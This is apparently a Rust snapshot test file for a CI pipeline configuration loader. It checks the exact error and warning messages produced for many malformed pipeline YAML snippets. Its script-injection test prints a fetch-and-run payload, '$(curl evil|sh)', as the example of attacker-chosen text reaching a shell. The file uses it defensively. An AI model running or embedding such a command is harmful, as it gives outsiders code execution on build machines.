//! Every pipeline rule's exact message: each case is a small `bellwether.yaml` and the
//! diagnostics it produces, `file:line:column: message`, one per line.

use insta::assert_snapshot;

fn check(source: &str) -> String {
    let source = source.strip_prefix('\n').unwrap_or(source);
    match bellwether_config::load("bellwether.yaml", source) {
        Ok(loaded) if loaded.warnings.is_empty() => "ok".to_owned(),
        Ok(loaded) => format!("ok\n{}", loaded.warnings),
        Err(diagnostics) => diagnostics.to_string(),
    }
}

#[test]
fn unknown_keys_and_shapes() {
    assert_snapshot!(check(r#"
pipelines:
  ci:
    jobs:
      test:
        need: [build]
        steps: [{run: make}]
"#), @"bellwether.yaml:5:9: unknown key `need`; did you mean `needs`? (expected one of name, runs-on, needs, if, env, timeout, timeout-minutes, retry, continue-on-error, strategy, outputs, environment, concurrency, defaults, steps, permissions, services, container, uses, with, secrets)");
    assert_snapshot!(check(r#"
pipelines:
  ci:
    jobs:
      test:
        steps:
          - run: make
            workdir: src
"#), @"bellwether.yaml:7:13: unknown key `workdir` (expected one of id, name, if, run, shell, working-directory, env, continue-on-error, timeout, timeout-minutes, uses, with, deploy, cache, artifacts, check, verify, load, target)");
    assert_snapshot!(check(r#"
pipelines:
  ci:
    on: pushh
    jobs: {}
"#), @"bellwether.yaml:3:9: unknown event `pushh`; did you mean `push`? (expected one of push, pull_request, tag, schedule, manual, workflow_dispatch, workflow_run, workflow_call, release)");
    assert_snapshot!(check(r#"
pipelines:
  ci:
    on: {push: {branch: [main]}}
    jobs: {}
"#), @"bellwether.yaml:3:17: unknown key `branch`; did you mean `branches`? (expected one of branches, branches-ignore, tags, tags-ignore, paths, paths-ignore)");
    assert_snapshot!(check(r#"
pipelines:
  ci:
    jobs:
      test:
        runs-on: ubuntu-latest
        steps: [{run: make test}]
"#), @"ok");
}

#[test]
fn steps() {
    assert_snapshot!(check(r#"
pipelines:
  ci:
    jobs:
      test:
        steps:
          - name: Checkout
            uses: actions/checkout@v4
          - uses: actions/cache@v4
            with: {path: target, key: x}
          - uses: docker/build-push-action@v5
          - name: Nothing
          - run: make
            cache: {key: k, paths: [target]}
          - deploy: {service: api}
            shell: bash
"#), @"
        bellwether.yaml:10:19: step `#3` uses `docker/build-push-action@v5`, which does not run here (expected what it does as a `run:` step; built in are actions/checkout, actions/cache, actions/upload-artifact, actions/download-artifact and actions/setup-node, -python, -go and -java)
        bellwether.yaml:11:13: step `Nothing` does nothing (expected one of `run`, `deploy`, `cache`, `artifacts`, `check`, `verify` or `load`)
        bellwether.yaml:12:13: step `#5` has both `run` and `cache` (expected exactly one of `run`, `deploy`, `cache`, `artifacts`, `check`, `verify` or `load`)
        bellwether.yaml:14:31: unknown service `api` (no services are declared; expected a `services:` section that declares it)
        bellwether.yaml:15:20: `shell` belongs to `run` steps, and step `#6` is not one (expected it left out)
        ");
    assert_snapshot!(check(r#"
pipelines:
  ci:
    jobs:
      test:
        steps:
          - id: build
            run: make
          - id: build
            run: make again
          - id: 9lives
            run: "true"
          - run: "true"
            shell: fish
          - run: "true"
            timeout: 5m
            timeout-minutes: 5
          - cache: {key: "deps"}
          - cache: {paths: [/etc]}
"#), @"
    bellwether.yaml:8:17: step id `build` is used twice in job `test` (expected each once)
    bellwether.yaml:10:17: `9lives` is not a valid id (expected letters, digits, `-` and `_`, starting with a letter or `_`)
    bellwether.yaml:13:20: unknown shell `fish` (expected bash, sh, python, or a command with {0} for the script, e.g. `perl {0}`)
    bellwether.yaml:16:30: `timeout` and `timeout-minutes` are both set (expected one of them)
    bellwether.yaml:17:20: cache step `#6` has no `paths` (expected e.g. `paths: [target]`)
    bellwether.yaml:18:20: cache step `#7` has no `key` (expected e.g. `key: deps-${{ hashFiles('Cargo.lock') }}`)
    ");
}

#[test]
fn needs_and_cycles() {
    assert_snapshot!(check(r#"
pipelines:
  ci:
    jobs:
      build:
        needs: [test]
        steps: [{run: make}]
      test:
        needs: [build, tset]
        steps: [{run: make test}]
      lint:
        needs: lint
        steps: [{run: make lint}]
"#), @"
    bellwether.yaml:8:17: needs form a cycle: build -> test -> build (expected jobs that can run one after another)
    bellwether.yaml:8:24: unknown job `tset`; did you mean `test`? (expected one of build, test, lint)
    bellwether.yaml:11:16: job `lint` needs itself (expected other jobs)
    ");
    assert_snapshot!(check(r#"
pipelines:
  ci:
    jobs:
      a: {needs: c, steps: [{run: "true"}]}
      b: {needs: a, steps: [{run: "true"}]}
      c: {needs: b, steps: [{run: "true"}]}
"#), @"bellwether.yaml:5:18: needs form a cycle: a -> c -> b -> a (expected jobs that can run one after another)");
    assert_snapshot!(check(r#"
pipelines:
  ci:
    jobs: {}
  cd:
    jobs:
      deploy: {}
"#), @"
    bellwether.yaml:2:3: pipeline `ci` has no jobs (expected at least one under `jobs:`)
    bellwether.yaml:6:7: job `deploy` has no steps (expected at least one under `steps:`)
    ");
}

#[test]
fn expressions() {
    assert_snapshot!(check(r#"
pipelines:
  ci:
    jobs:
      build:
        outputs: {version: "${{ steps.meta.outputs.version }}"}
        steps:
          - id: meta
            run: echo "version=1" >> $GITHUB_OUTPUT
      deploy:
        needs: build
        if: github.ref = 'refs/heads/main'
        steps:
          - run: echo ${{ needs.build.outputs.versoin }}
          - run: echo ${{ needs.test.outputs.x }}
          - run: echo ${{ steps.later.outputs.x }}
          - id: later
            run: echo ${{ matrix.os }}
          - run: echo ${{ inputs.reason }} ${{ githb.sha }}
          - run: echo ${{ success() }}
          - run: echo ${{ format('{0}', github.sha }}
          - if: ${{ a }} && ${{ b }}
            run: "true"
          - run: echo ${{ github.token }}
"#), @"
    bellwether.yaml:11:13: if: unexpected `=` (expected `==` to compare) at character 12 (in `github.ref = 'refs/heads/main'`)
    bellwether.yaml:13:18: run: `needs.build.outputs.versoin`: job `build` has no output `versoin`; did you mean `version`? (expected one of version)
    bellwether.yaml:14:18: run: `needs.test.outputs.x`: this job does not need `test` (expected one of build)
    bellwether.yaml:15:18: run: `steps.later.outputs.x`: unknown step id `later` (there are none this step can see)
    bellwether.yaml:17:18: run: `matrix.os`: this job has no matrix (expected a `strategy: {matrix: …}`)
    bellwether.yaml:18:18: run: `inputs.reason`: this pipeline has no manual inputs (expected `on: {manual: {inputs: …}}`)
    bellwether.yaml:18:18: run: `githb.sha`: unknown context `githb`; did you mean `github`? (expected one of github, env, matrix, needs, steps, inputs, secrets, job, runner, strategy, vars, jobs)
    bellwether.yaml:19:18: run: success() is only available in `if`
    bellwether.yaml:20:18: run: found the end (expected `,` or `)` in the arguments) at character 35 (in `echo ${{ format('{0}', github.sha }}`)
    bellwether.yaml:21:17: if: the condition mixes `${{ }}` with other text, which makes it a non-empty string that is always true (expected one expression, e.g. `github.ref == 'refs/heads/main' && success()`) at character 1 (in `${{ a }} && ${{ b }}`)
    bellwether.yaml:23:18: warning: run: `github.token`: bellwether does not set `github.token`; it evaluates to ''
    ");
    assert_snapshot!(check(r#"
pipelines:
  ci:
    on:
      manual:
        inputs:
          reason: {required: true}
    env:
      WHO: ${{ matrix.os }}
    jobs:
      test:
        if: hashFiles('x') != ''
        strategy:
          matrix: {os: [ubuntu, debian]}
        name: test ${{ matrix.oss }}
        env:
          REASON: ${{ inputs.reason }}
          "BAD NAME": x
        steps:
          - run: echo ${{ runner.os }} ${{ strategy.job-index }} ${{ job.status }}
"#), @"
    bellwether.yaml:8:12: env: `matrix.os`: `matrix` is not available in `env` (expected one of github, inputs, secrets)
    bellwether.yaml:11:13: if: hashFiles() reads the workspace, so it is only available in steps and job outputs
    bellwether.yaml:14:15: name: `matrix.oss`: unknown matrix key `oss`; did you mean `os`? (expected one of os)
    bellwether.yaml:17:11: env name `BAD NAME` is not a valid environment variable name (expected letters, digits and `_`, not starting with a digit)
    ");
}

#[test]
fn triggers() {
    assert_snapshot!(check(r#"
pipelines:
  ci:
    on:
      push:
        branches: [main, "release/[0-9"]
        branches-ignore: [wip]
        paths: ["!docs/**"]
      pull_request:
        types: [opened, merged]
        paths: []
      schedule:
        - cron: "0 2 * *"
        - cron: "61 * * * *"
      manual:
        inputs:
          replicas: {type: number, default: three}
          flavour: {options: [a, b]}
          target: {type: choice}
          "bad input": {}
    jobs:
      test: {steps: [{run: make}]}
"#), @"
    bellwether.yaml:6:26: `branches` and `branches-ignore` are both set (expected one of them; `!pattern` in `branches` excludes)
    bellwether.yaml:7:16: `paths` only excludes, so nothing would match (expected a pattern without `!` first, e.g. `'**'`)
    bellwether.yaml:9:25: unknown pull_request type `merged` (expected one of opened, synchronize, reopened, closed, edited, ready_for_review, labeled, unlabeled)
    bellwether.yaml:10:16: `paths` is empty, so nothing would match (expected at least one pattern, or no `paths`)
    bellwether.yaml:12:17: cron `0 2 * *` has 4 fields (expected 5: minute hour day-of-month month day-of-week, e.g. `0 2 * * 1`)
    bellwether.yaml:13:17: cron `61 * * * *`: 61 is out of range for the minute field (expected 0-59)
    bellwether.yaml:16:45: default of input `replicas`: `three` is not a number (expected e.g. 3 or 0.5)
    bellwether.yaml:17:30: `options` belong to a choice, and input `flavour` is a string (expected `type: choice`)
    bellwether.yaml:18:26: input `target` is a choice without options (expected `options: [a, b]`)
    bellwether.yaml:19:11: input name `bad input` is not valid (expected letters, digits, `_`, `-` and `.`, at most 63 characters)
    ");
    assert_snapshot!(check(r#"
pipelines:
  ci:
    on: {tag: {tags: ["v[0-9"]}, pull_request: {branches: main}}
    jobs:
      test: {steps: [{run: make}]}
"#), @"bellwether.yaml:3:23: `v[0-9` is not a valid glob: unclosed character class; missing ']'");
    assert_snapshot!(check(r#"
pipelines:
  ci:
    on: {manual: {}, workflow_dispatch: {}}
    jobs:
      test: {steps: [{run: make}]}
"#), @"bellwether.yaml:3:41: `manual` and `workflow_dispatch` are the same trigger (expected one of them)");
    assert_snapshot!(check(r#"
pipelines:
  ci:
    on:
      manual:
        inputs:
          kind: {type: strng}
    jobs:
      test: {steps: [{run: make}]}
"#), @"bellwether.yaml:6:24: unknown value `strng`; did you mean `string`? (expected one of string, number, boolean, choice)");
    assert_snapshot!(check(r#"
pipelines:
  nightly:
    on:
      schedule: []
    jobs:
      test: {steps: [{run: make}]}
"#), @r#"bellwether.yaml:4:17: `schedule` has no cron lines (expected e.g. `- cron: "0 2 * * 1"`)"#);
}

#[test]
fn jobs() {
    assert_snapshot!(check(r#"
environments:
  production: {approvals: 1}
pipelines:
  cd:
    jobs:
      deploy:
        environment: prodution
        retry: {max-attempts: 11, on-exit-codes: [0, 75, 300]}
        timeout: 0s
        continue-on-error: sometimes
        concurrency: {cancel-in-progress: true}
        strategy:
          matrix:
            region: [eu, us]
            size: []
            exclude: [{zone: a}]
          max-parallel: 0
        steps:
          - deploy: {service: api}
"#), @"
    bellwether.yaml:7:22: unknown environment `prodution`; did you mean `production`? (`production` has protection rules, and a new environment this close to its name would have none; declare `prodution` under `environments:` if it is meant)
    bellwether.yaml:8:31: max-attempts 11 is out of range (expected 1 to 10, counting the first attempt)
    bellwether.yaml:8:51: exit code 0 is out of range (expected 1 to 255; 0 is success)
    bellwether.yaml:8:58: exit code 300 is out of range (expected 1 to 255; 0 is success)
    bellwether.yaml:9:18: timeout must be more than 0s (expected a duration like 1s or 30s)
    bellwether.yaml:10:28: continue-on-error: `sometimes` is not a boolean (expected true, false or an expression like ${{ matrix.experimental }})
    bellwether.yaml:11:22: `concurrency` has no `group` (expected e.g. `group: deploy-${{ github.ref }}`)
    bellwether.yaml:15:19: matrix axis `size` has no values (expected a non-empty list)
    bellwether.yaml:16:22: `exclude` names `zone`, which is not an axis (expected one of region)
    bellwether.yaml:17:25: max-parallel 0 runs nothing (expected 1 or more)
    bellwether.yaml:19:31: unknown service `api` (no services are declared; expected a `services:` section that declares it)
    ");
    assert_snapshot!(check(r#"
services:
  api: {run: {command: [./api]}}
pipelines:
  cd:
    jobs:
      deploy:
        environment: {url: "https://x"}
        strategy:
          matrix:
            a: [1, 2, 3, 4, 5, 6, 7]
            b: [1, 2, 3, 4, 5, 6, 7]
            c: [1, 2, 3, 4, 5, 6, 7]
        steps:
          - deploy: {service: apii}
          - deploy: {}
"#), @"
    bellwether.yaml:7:22: `environment` has no `name` (expected e.g. `environment: production`)
    bellwether.yaml:10:13: the matrix has 343 combinations (expected at most 256)
    bellwether.yaml:14:31: unknown service `apii`; did you mean `api`? (expected one of api)
    bellwether.yaml:15:21: deploy step `#2` has no `service` (expected e.g. `deploy: {service: api}`)
    ");
    assert_snapshot!(check(r#"
pipelines:
  cd:
    jobs:
      deploy:
        strategy:
          matrix: fromJSON(needs.plan.outputs.matrix)
        steps: [{run: "true"}]
"#), @"bellwether.yaml:6:19: matrix: expected a mapping of axes, or one expression like ${{ fromJSON(needs.plan.outputs.matrix) }}");
}

#[test]
fn artifacts() {
    assert_snapshot!(check(r#"
pipelines:
  ci:
    jobs:
      build:
        steps:
          - artifacts: {upload: [dist/**], name: web}
      lint:
        steps:
          - artifacts: {upload: [report.txt]}
      test:
        needs: build
        steps:
          - artifacts: {download: [web, lint, wbe]}
          - artifacts: {upload: ["../secrets"], path: out}
          - artifacts: {}
          - artifacts: {upload: [a], download: [web]}
"#), @"
    bellwether.yaml:13:41: no job that `test` needs uploads artifact `lint` (expected one of web)
    bellwether.yaml:13:47: no job that `test` needs uploads artifact `wbe`; did you mean `web`? (expected one of web)
    bellwether.yaml:14:34: upload `../secrets` leaves the workspace (expected a path relative to it, without `..`)
    bellwether.yaml:14:55: `path` is where downloads go (expected `upload` paths only, or `download`)
    bellwether.yaml:15:24: artifacts step `#3` has neither `upload` nor `download` (expected one of them)
    bellwether.yaml:16:48: artifacts step `#4` has both `upload` and `download` (expected one per step)
    ");
}

#[test]
fn artifacts_of_matrix_legs() {
    assert_snapshot!(check(r#"
pipelines:
  ci:
    jobs:
      test:
        strategy: {matrix: {service: [api, web]}}
        steps:
          - artifacts: {upload: [report.txt], name: report}
          - artifacts: {upload: [cover.txt]}
          - artifacts: {upload: [cover.txt], name: "coverage-${{ matrix.service }}"}
          - artifacts: {upload: [x], name: "bad-${{ matrix.nope }}"}
      merge:
        needs: test
        steps:
          - artifacts: {download: [coverage-api, coverage-web, cover-api]}
"#), @"
    bellwether.yaml:7:53: every leg of job `test`'s matrix uploads artifact `report`, and an artifact is uploaded once per run (expected a name per leg, e.g. `name: report-${{ matrix.service }}`)
    bellwether.yaml:8:24: every leg of job `test`'s matrix uploads artifact `test`, and an artifact is uploaded once per run (expected a name per leg, e.g. `name: test-${{ matrix.service }}`)
    bellwether.yaml:10:44: name: `matrix.nope`: unknown matrix key `nope` (expected one of service)
    bellwether.yaml:14:64: no job that `merge` needs uploads artifact `cover-api` (expected one of report, test, coverage-${{ matrix.service }}, bad-${{ matrix.nope }})
    ");
}

/// A service named per leg of a matrix written out is checked leg by leg; one computed from
/// anything else is checked as the step runs.
#[test]
fn deploys_of_matrix_legs() {
    assert_snapshot!(check(r#"
services:
  api: {run: {command: [./api]}}
  web: {run: {command: [./web]}}
pipelines:
  ci:
    jobs:
      plan:
        outputs: {target: "${{ steps.p.outputs.target }}"}
        steps:
          - {id: p, run: echo target=api >> "$GITHUB_OUTPUT"}
      ship:
        needs: plan
        strategy:
          matrix:
            service: [api, web, wbe]
            include: [{service: worker, region: eu}]
        steps:
          - deploy: {service: "${{ matrix.service }}"}
          - deploy: {service: "${{ needs.plan.outputs.target }}"}
          - deploy: {service: "${{ matrix.service == 'web' && 'web' || 'api' }}"}
"#), @"bellwether.yaml:18:31: unknown service `wbe` for the leg {service: wbe}, `worker` for the leg {region: eu, service: worker} (expected one of api, web)");
}

#[test]
fn a_clean_pipeline_is_accepted() {
    assert_snapshot!(check(r#"
services:
  api: {run: {command: [./api]}}
environments:
  staging: {branches: [develop]}
  production: {branches: [main], approvals: 1}
pipelines:
  ci:
    on:
      push: {branches: [main, develop, "release/*"], paths-ignore: ["docs/**"]}
      pull_request: {branches: [main]}
      tag: {tags: ["v*"]}
      schedule: [{cron: "0 2 * * 1"}]
      workflow_dispatch:
        inputs:
          environment: {type: choice, options: [staging, production], default: staging}
          dry-run: {type: boolean, default: "false"}
    env: {CARGO_TERM_COLOR: always}
    concurrency: {group: "ci-${{ github.ref }}", cancel-in-progress: true}
    defaults: {run: {shell: bash}}
    jobs:
      plan:
        outputs: {matrix: "${{ steps.m.outputs.matrix }}"}
        steps:
          - id: m
            run: echo 'matrix={"os":["ubuntu"]}' >> "$GITHUB_OUTPUT"
      test:
        needs: plan
        strategy:
          matrix: ${{ fromJSON(needs.plan.outputs.matrix) }}
        steps:
          - cache: {key: "deps-${{ hashFiles('Cargo.lock') }}", restore-keys: [deps-], paths: [target]}
          - run: echo ${{ matrix.os }}
      build:
        needs: [test]
        timeout-minutes: 30
        retry: 2
        outputs: {version: "${{ steps.v.outputs.version }}"}
        steps:
          - id: v
            run: echo "version=1.2.3" >> "$GITHUB_OUTPUT"
          - artifacts: {upload: [dist]}
      deploy:
        needs: build
        if: github.ref == 'refs/heads/main' && !inputs.dry-run
        environment: ${{ inputs.environment }}
        concurrency: deploy
        steps:
          - artifacts: {download: [build], path: dist}
          - deploy: {service: api, revision: "${{ needs.build.outputs.version }}"}
          - if: failure()
            run: echo rollback
"#), @"ok");
}

#[test]
fn text_an_outsider_chooses_pasted_into_a_script_is_flagged() {
    assert_snapshot!(check(r#"
pipelines:
  ci:
    jobs:
      greet:
        steps:
          - run: echo "building ${{ github.head_ref }} for ${{ github.actor }}"
          - run: echo "${{ github.event.pull_request.title }} ${{ github.event.head_commit.message }}"
          - run: echo "${{ github.event.pull_request.number }} ${{ github.sha }} ${{ github.event.after }}"
          - env: {BRANCH: "${{ github.head_ref }}"}
            run: echo "building $BRANCH"
"#), @r#"
    ok
    bellwether.yaml:6:18: warning: run: `github.head_ref` is text whoever pushes or opens the pull request chooses, and in a script's text it could run commands (`$(curl evil|sh)`, say): bellwether hands it to bash and sh in a variable, but other shells get it pasted in; pass it through the step's `env:` (`env: {VALUE: ${{ github.head_ref }}}`) and write "$VALUE" in the script
    bellwether.yaml:6:18: warning: run: `github.actor` is text whoever pushes or opens the pull request chooses, and in a script's text it could run commands (`$(curl evil|sh)`, say): bellwether hands it to bash and sh in a variable, but other shells get it pasted in; pass it through the step's `env:` (`env: {VALUE: ${{ github.actor }}}`) and write "$VALUE" in the script
    bellwether.yaml:7:18: warning: run: `github.event.pull_request.title` is text whoever pushes or opens the pull request chooses, and in a script's text it could run commands (`$(curl evil|sh)`, say): bellwether hands it to bash and sh in a variable, but other shells get it pasted in; pass it through the step's `env:` (`env: {VALUE: ${{ github.event.pull_request.title }}}`) and write "$VALUE" in the script
    bellwether.yaml:7:18: warning: run: `github.event.head_commit.message` is text whoever pushes or opens the pull request chooses, and in a script's text it could run commands (`$(curl evil|sh)`, say): bellwether hands it to bash and sh in a variable, but other shells get it pasted in; pass it through the step's `env:` (`env: {VALUE: ${{ github.event.head_commit.message }}}`) and write "$VALUE" in the script
    "#);
}

fn pipeline_examples() -> Vec<(String, String)> {
    let dir = std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../examples/pipelines");
    let mut files: Vec<(String, String)> = std::fs::read_dir(dir)
        .expect("examples/pipelines exists")
        .filter_map(|e| e.ok().map(|e| e.path()))
        .filter(|p| p.extension().is_some_and(|e| e == "yaml"))
        .filter_map(|p| {
            Some((
                p.file_name()?.to_string_lossy().into_owned(),
                std::fs::read_to_string(&p).ok()?,
            ))
        })
        .collect();
    files.sort();
    files
}

#[test]
fn the_pipeline_examples_load_without_a_warning() {
    let examples = pipeline_examples();
    assert_eq!(examples.len(), 3, "the seeds 000, 001 and 003");
    for (name, source) in examples {
        match bellwether_config::load(&name, &source) {
            Ok(loaded) => {
                assert!(loaded.warnings.is_empty(), "{}", loaded.warnings);
                assert!(!loaded.pipelines.is_empty(), "{name} has no pipelines");
            }
            Err(diagnostics) => panic!("{diagnostics}"),
        }
    }
}

mod mangled {
    use proptest::prelude::*;

    const INTERESTING: &[u8] = b" \n\t:-{}[],'\"&*!%#|>?$0159.-+/\\~()=<";

    proptest! {
        #![proptest_config(ProptestConfig { cases: 512, failure_persistence: None, ..ProptestConfig::default() })]

        /// Mangled pipelines end in a project or in diagnostics, never in a panic.
        #[test]
        fn mangled_pipeline_examples_never_panic(
            which in any::<prop::sample::Index>(),
            edits in prop::collection::vec((any::<prop::sample::Index>(), prop::sample::select(INTERESTING), 0..3u8), 1..12),
        ) {
            let examples = super::pipeline_examples();
            let mut bytes = examples[which.index(examples.len())].1.clone().into_bytes();
            for (at, byte, kind) in edits {
                let i = at.index(bytes.len().max(1));
                match kind {
                    0 if i < bytes.len() => bytes[i] = byte,
                    1 => bytes.insert(i.min(bytes.len()), byte),
                    _ if i < bytes.len() => { bytes.remove(i); }
                    _ => {}
                }
            }
            if let Ok(config) = bellwether_config::parse("bellwether.yaml", &String::from_utf8_lossy(&bytes)) {
                let _ = config.lower();
            }
        }
    }
}

#[test]
fn an_undeclared_environment_is_made_unprotected_unless_it_is_a_near_miss_of_a_protected_one() {
    let source = r#"
environments:
  production: {approvals: 1}
  qa: {}
pipelines:
  cd:
    jobs:
      review: {environment: review, steps: [{run: make}]}
      staging: {environment: {name: staging, url: "https://staging.example.com"}, steps: [{run: make}]}
      ci: {environment: ci, steps: [{run: make}]}
      prod: {environment: production, steps: [{run: make}]}
"#;
    let loaded =
        bellwether_config::load("bellwether.yaml", source).unwrap_or_else(|d| panic!("{d}"));
    let environments = &loaded.project.environments;
    let names: Vec<&str> = environments.keys().map(String::as_str).collect();
    assert_eq!(names, ["ci", "production", "qa", "review", "staging"]);
    for implicit in ["review", "staging", "ci"] {
        assert!(!environments[implicit].is_protected(), "{implicit}");
    }
    assert!(environments["production"].is_protected());
    // A near miss of an unprotected environment is just another environment (`stagin`), and
    // so is a name far from any (`prod`); a near miss of a protected one is refused, and so
    // is a name that could not be declared.
    assert_snapshot!(check(r#"
environments:
  production: {branches: [main]}
  staging: {}
pipelines:
  cd:
    jobs:
      a: {environment: stagin, steps: [{run: make}]}
      b: {environment: Production, steps: [{run: make}]}
      c: {environment: prod, steps: [{run: make}]}
      d: {environment: "my env", steps: [{run: make}]}
"#), @"
    bellwether.yaml:8:24: unknown environment `Production`; did you mean `production`? (`production` has protection rules, and a new environment this close to its name would have none; declare `Production` under `environments:` if it is meant)
    bellwether.yaml:10:24: environment name `my env` is not valid (expected letters, digits, `_`, `-` and `.`, at most 63 characters)
    ");
}

#[test]
fn workflow_run_and_release() {
    let source = r#"
pipelines:
  ci:
    on: push
    jobs: {test: {steps: [{run: make}]}}
  deploy:
    on:
      workflow_run: {workflows: [ci], types: [completed], branches: [main]}
    jobs:
      deploy:
        if: ${{ github.event.workflow_run.conclusion == 'success' }}
        steps: [{run: "echo ${{ github.event.workflow_run.head_sha }}"}]
  publish:
    on:
      release: {types: [published]}
    jobs: {publish: {steps: [{run: make}]}}
"#;
    let loaded =
        bellwether_config::load("bellwether.yaml", source).unwrap_or_else(|d| panic!("{d}"));
    let triggers: Vec<&str> = loaded
        .pipelines
        .iter()
        .flat_map(|p| p.triggers.iter().map(|t| t.name()))
        .collect();
    assert_eq!(triggers, ["push", "workflow_run", "release"]);
    assert_snapshot!(check(r#"
pipelines:
  ci:
    on: [push, workflow_run]
    jobs: {}
"#), @"bellwether.yaml:3:9: `workflow_run` needs the pipelines it follows (expected `workflow_run: {workflows: [ci]}`)");
    assert_snapshot!(check(r#"
pipelines:
  ci:
    on: push
    jobs: {j: {steps: [{run: make}]}}
  deploy:
    on:
      workflow_run: {workflows: [cii, ci], types: [complete]}
    jobs: {j: {steps: [{run: make}]}}
  publish:
    on:
      release: {types: [publish]}
    jobs: {j: {steps: [{run: make}]}}
  a:
    on: {workflow_run: {workflows: [b]}}
    jobs: {j: {steps: [{run: make}]}}
  b:
    on: {workflow_run: {workflows: [a]}}
    jobs: {j: {steps: [{run: make}]}}
"#), @"
    bellwether.yaml:7:34: unknown pipeline `cii`; did you mean `ci`? (expected one of ci, deploy, publish, a, b)
    bellwether.yaml:7:52: unknown workflow_run type `complete`; did you mean `completed`? (expected one of completed, requested)
    bellwether.yaml:11:25: unknown release type `publish`; did you mean `published`? (expected one of published, unpublished, created, edited, deleted, prereleased, released)
    bellwether.yaml:13:3: pipeline `a` follows itself through `workflow_run` (a → b → a): each run would start the next forever
    bellwether.yaml:16:3: pipeline `b` follows itself through `workflow_run` (b → a → b): each run would start the next forever
    ");
}
